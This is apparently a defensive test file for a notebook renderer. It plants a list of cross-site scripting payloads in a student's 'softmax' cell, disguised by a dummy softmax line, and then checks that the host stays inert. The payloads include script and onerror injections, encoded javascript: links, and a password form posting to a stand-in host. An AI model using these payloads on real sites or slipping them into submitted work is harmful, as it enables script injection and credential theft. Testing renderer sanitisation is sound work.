# Displays pages, pictures, Markdown and formulas that would run in the reader's browser.
from active import nothing_active
from attacks import cell

COURSE = True
ANSWER = r'''
from IPython.display import display
pages = [
    "<script>attack()</script>",
    "<img src=x onerror=attack()>",
    "<svg onload='attack()'/>",
    "<a href='javascript:attack()'>x</a>",
    "<a href='java&#115;cript:attack()'>x</a>",
    "<a href=' &#x09;jAvAsCrIpT:attack()'>x</a>",
    "<iframe srcdoc='attack'></iframe>",
    "<iframe src='javascript:attack()'></iframe>",
    "<body onload=attack()>",
    "<form action='//attack.invalid'><input name=password></form>",
    "<base href='//attack.invalid/'>",
    "<meta http-equiv=refresh content='0;//attack.invalid'>",
    "<style>@import '//attack.invalid';</style>",
    "<link rel=stylesheet href='//attack.invalid'>",
    "<object data='data:text/html,attack'></object>",
    "<math><a xlink:href='javascript:attack()'>",
    "<svg><a xlink:href='javascript:attack()'><text>x</text></a></svg>",
    "</pre><script>attack()//",
    "<svg><style><img src=x onerror=attack()></style></svg>",
    "<!--><img src=x onerror=attack()>",
    "<noscript><p title='</noscript><img src=x onerror=attack()>'></noscript>",
    "<details open ontoggle=attack()>x</details>",
    "<video><source onerror=attack()></video>",
    "<template><script>attack()</script></template>",
    "<a href='data:text/html,attack'>x</a>",
]
for page in pages:
    for kind in ("text/html", "image/svg+xml", "text/markdown", "text/plain"):
        display({kind: page}, raw=True)
display({"application/javascript": "attack()"}, raw=True)
display({"text/markdown": "[x](javascript:attack()) ![x](x\"onerror=\"attack())"}, raw=True)
display({"text/latex": r"$\href{javascript:attack()}{x}$"}, raw=True)
display({"text/latex": "$x$<img src=x onerror=attack()>"}, raw=True)
display({"image/png": "x' onerror='attack()"}, raw=True)
display({"image/png": 'x" onerror="attack()'}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>attack()"}},
        raw=True)
softmax = lambda x, dim: x
'''


def hand_in(notebook, folder):
    cell(notebook, "softmax")["source"] = ANSWER


def host_unchanged(folder):
    nothing_active(folder)
